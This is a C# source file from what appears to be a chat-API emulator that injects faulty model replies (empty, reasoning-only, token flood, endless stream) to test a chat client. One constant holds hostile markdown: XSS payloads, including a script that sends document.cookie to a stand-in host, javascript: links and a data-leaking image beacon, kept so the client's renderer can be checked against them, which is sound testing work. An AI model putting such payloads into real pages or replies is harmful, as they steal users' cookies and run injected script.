using TahoChat.GroqEmulator.Directives;
using static TahoChat.GroqEmulator.Faults.FaultMoment;

namespace TahoChat.GroqEmulator.Faults;

/// <summary>Replies that are odd in what they say.</summary>
internal static class ReplyFaults
{
    private const double Flood = 5000;
    private const int FloodTokens = 20_000;

    // What a page must neither run, load nor follow.
    private const string HostileMarkdown = """
        <script>fetch('https://evil.invalid/'+document.cookie)</script><img src=x onerror="alert(1)"><svg/onload=alert(1)>

        [a link](javascript:alert(1)) [another](data:text/html,<script>alert(1)</script>) ![pixel](https://evil.invalid/p.png?q=secret)

        <iframe src="https://evil.invalid"></iframe><a href="vbscript:x" onclick=alert(1)>click</a> <style>*{display:none}</style>

        ```"><img src=x onerror=alert(1)>
        </code></pre><script>alert(1)</script>
        ```

        | a | <b onmouseover=alert(1)>b</b> |
        | - | - |
        | $\href{javascript:alert(1)}{x}$ | [x][1] |

        [1]: javascript:alert(1) "<script>alert(1)</script>"
        """;

    public static IReadOnlyList<Fault> All { get; } =
    [
        Of("empty", "finish_reason stop and not a word", directives => directives with { Reply = new FixedReply.Text(""), Reasoning = 0 }),
        Of("only-reasoning", "Nothing but reasoning", directives => directives with { Reply = new FixedReply.Text("") }),
        Of("flood", "5,000 tokens a second", directives => directives with
        {
            Speed = Flood,
            Tokens = directives.Tokens ?? (directives.Reply is null ? FloodTokens : null),
        }),
        Of("markdown", "Markdown that would run, load and follow", directives => directives with { Reply = new FixedReply.Text(HostileMarkdown) }),
        new Fault.MidStream(new("endless", "A reply without an end", AfterContent), EndlessAsync, WholeStrike.Silence),
    ];

    private static Fault.Shaped Of(string name, string description, Func<RequestDirectives, RequestDirectives> shape) =>
        new(new FaultDescription(name, description, Harmless), shape);

    private static async Task EndlessAsync(StrikeContext struck, CancellationToken cancellationToken)
    {
        string[] words = ["on ", "and ", "again ", "more ", "still "];
        while (true)
        {
            // As many as a fast model sends in some milliseconds.
            for (var count = 0; count < 256; count++) struck.Stream.Content(words[struck.Random.Next(words.Length)]);
            await struck.Stream.FlushAsync(cancellationToken);
        }
    }
}
